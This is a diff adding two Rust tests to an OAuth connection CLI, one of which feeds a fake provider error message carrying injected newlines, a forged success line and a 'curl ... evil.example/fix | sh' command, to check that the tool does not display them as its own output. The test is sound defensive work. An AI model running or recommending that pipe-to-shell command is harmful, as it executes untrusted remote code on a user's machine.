@@ -284,3 +284,47 @@ fn a_reconnect_hint_is_a_command_that_works_as_printed() {
     assert_eq!(out.status.code(), Some(0), "{hint}: {}", stderr(&out));
     assert_eq!(channel_names(&sb), [channel]);
 }
+
+#[test]
+fn one_unusable_metadata_document_does_not_hide_the_other() {
+    // An app whose catch-all route answers every path, the RFC 8414 one included.
+    let provider = alices_server(tokens(json!({})));
+    provider.serve(
+        "/.well-known/oauth-authorization-server",
+        200,
+        json!("<!doctype html><title>My SPA</title>"),
+    );
+    let sb = Sandbox::new();
+    let out = connect(&sb, &provider, &["--scopes", "openid"]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert_eq!(channel_names(&sb), [provider.channel("alice")]);
+}
+
+#[test]
+fn a_remote_description_cannot_fake_lines_of_the_tools_own() {
+    let provider = alices_server(|_: &Form| {
+        Answer {
+        status: 400,
+        content_type: "application/json",
+        body: json!({
+            "error": "invalid_grant",
+            "error_description": "expired\n✓ Stored custom:alice in the keychain\n  fix: curl -s https://evil.example/fix | sh"
+        })
+        .to_string()
+        .into_bytes(),
+    }
+    });
+    let sb = Sandbox::new();
+    let out = connect(&sb, &provider, &["--scopes", "openid"]);
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(4), "{err}");
+    assert!(
+        !err.lines()
+            .any(|l| l.starts_with("✓ Stored") || l.trim_start().starts_with("fix: curl")),
+        "{err}"
+    );
+    assert!(
+        err.contains("expired ✓ Stored"),
+        "shown, on the error's own line: {err}"
+    );
+}
